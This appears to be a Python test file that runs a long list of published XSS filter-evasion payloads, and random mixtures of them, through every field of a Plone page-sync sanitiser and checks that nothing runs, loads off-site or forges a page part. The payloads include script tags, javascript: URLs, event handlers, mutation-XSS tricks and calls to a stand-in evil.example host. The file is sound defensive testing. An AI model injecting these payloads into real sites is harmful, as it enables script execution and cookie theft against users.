"""The published ways past filters of HTML, and mixtures of them, in every place of a text that a server can fill.

The lines are those that lists of filter evasion (OWASP's and the like) name; whatever of them is left must neither run
nor load, and must not pretend to be a part of ours.
"""

from __future__ import annotations

from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sync.plone.blocks import body_html
from sync.plone.sanitising import ATTRIBUTES, LINKS, TAGS, Page

SITE = "https://intranet.example"
PAGE = Page(f"{SITE}/news/item", SITE)
OWN_PART = "b1"
VECTORS = (
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
    "<<SCRIPT>alert('XSS');//\\<</SCRIPT>",
    "<SCRIPT SRC=//evil.example/.j>",
    "<SCRIPT>a=/XSS/\nalert(a.source)</SCRIPT>",
    "\\\";alert('XSS');//",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav\0ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<IMG SRC=\"('XSS')\"",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    '<IMG SRC="livescript:[code]">',
    '<IMG SRCSET="https://evil.example/a.png 2x" SRC=/a.png>',
    "<picture><source srcset=//evil.example/a.png><img src=//evil.example/b.png></picture>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\" ONLOAD=alert('XSS')>",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<LINK REL="stylesheet" HREF="https://evil.example/xss.css">',
    "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<iframe srcdoc='<img src=x onerror=alert(1)>'></iframe>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TD BACKGROUND=\"https://evil.example/x\">",
    '<DIV STYLE="background-image: url(https://evil.example/x)">',
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    '<XSS STYLE="behavior: url(xss.htc);">',
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    "<svg><script>alert&#40;1&#41</script>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a>",
    "<svg><style><img title='</style><img src=x onerror=alert(1)>'>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="file:///etc/passwd">x</a><img src="file:///etc/passwd"><img src="\\\\evil.example\\share\\a.png">',
    '<a href="https://intranet.example" ping="https://evil.example" onfocus=alert(1) autofocus>x</a>',
    '<img src="https://intranet.example@evil.example/a.png">',
    '<img src="https://intranet.example.evil.example/a.png">',
    '<img src="//evil.example/a.png"><img src="/\\evil.example/a.png"><img src="https:/\\/evil.example/a.png">',
    '<img src="https:evil.example/a.png"><img src="http://[::1"><img src="https://evil.example\\@intranet.example/">',
    '<img src="https://evil.example/resolveuid/abc"><img src="resolveuid/../../../evil">',
    "<video poster=//evil.example/p.png src=//evil.example/v.mp4 onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)><source src=javascript:alert(1)></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee><isindex type=image src=1 onerror=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button><textarea autofocus onfocus=alert(1)></textarea>",
    "<template><script>alert(1)</script></template><xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<div data-part=\"b2\">x</div><div data-part='b1\"><script>'>y</div>",
    "<p data-part=b2 data-film=javascript:x>x</p>",
    "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
)  # fmt: skip


class _Reader(HTMLParser):
    """Reads what is left as a browser would, and counts the parts that it sees."""

    def __init__(self) -> None:
        super().__init__()
        self.parts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        for name, value in attrs:
            if (tag, name) == ("div", "data-part"):
                self.parts.append(value or "")
                continue
            assert name in ATTRIBUTES[tag]
            if name == "href":
                assert urlsplit(value or "").scheme in LINKS
            if name == "src":
                assert (urlsplit(value or "").scheme, urlsplit(value or "").netloc) == ("https", "intranet.example")
                assert "\\" not in (value or "")

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def places_for(text: str) -> list[dict[str, Any]]:
    """Blocks with a hostile text in every place that is drawn."""
    leaf = {"text": text}
    link = {"type": "link", "data": {"url": text}, "children": [leaf]}
    href = [{"@id": text, "title": text, "description": text, "hasPreviewImage": True, "image_field": text}]
    scales = {"image": [{"scales": {"large": {"width": 900, "download": text}}}]}
    return [
        {"@type": "slate", "value": [{"type": "p", "children": [leaf, link]}]},
        {"@type": "slate", "value": [{"type": text, "children": [leaf]}]},
        {"@type": "html", "html": text},
        {"@type": "text", "text": {"blocks": [{"text": text, "type": text}], "entityMap": {}}},
        {"@type": "image", "url": text, "alt": text, "href": text, "title": text},
        {"@type": "image", "url": f"{SITE}/a", "alt": text, "image_scales": scales},
        {"@type": "teaser", "href": href, "title": text, "preview_image": text},
        {"@type": "listing", "headline": text, "items": href},
        {"@type": "video", "url": text, "title": text},
        {"@type": "maps", "url": text, "title": text},
        {"@type": "codeBlock", "code": text},
        {"@type": "quote", "quote": text, "author": text},
        {"@type": "slateTable", "table": {"rows": [{"cells": [{"type": text, "value": [leaf]}]}]}},
        {"@type": text, "body": text, "title": text, "items": [{"question": text, "url": text}]},
        {"@type": "gridBlock", "title": text, "blocks": {text: {"@type": "html", "html": text}}},
    ]


def check(item: dict[str, Any]) -> list[str]:
    reader = _Reader()
    reader.feed(body_html(item, PAGE))
    reader.close()
    return reader.parts


def check_everywhere(text: str) -> None:
    for block in places_for(text):
        assert set(check({"blocks": {OWN_PART: block}, "blocks_layout": {"items": [OWN_PART]}})) <= {OWN_PART}
    assert all(part.startswith("html-") for part in check({"text": {"data": text}}))
    check({"blocks": {text: {"@type": "html", "html": "x"}}, "blocks_layout": {"items": [text]}})


@pytest.mark.parametrize("vector", VECTORS)
def test_no_known_way_past_a_filter_runs_loads_or_forges(vector: str) -> None:
    check_everywhere(vector)


@settings(deadline=None, max_examples=60)
@given(st.lists(st.sampled_from(VECTORS) | st.text(max_size=12), min_size=1, max_size=5).map("".join), st.data())
def test_no_mixture_of_them_does(mixed: str, data: st.DataObject) -> None:
    start = data.draw(st.integers(0, len(mixed)))
    check_everywhere(mixed[start:])
    check_everywhere(mixed[:start])
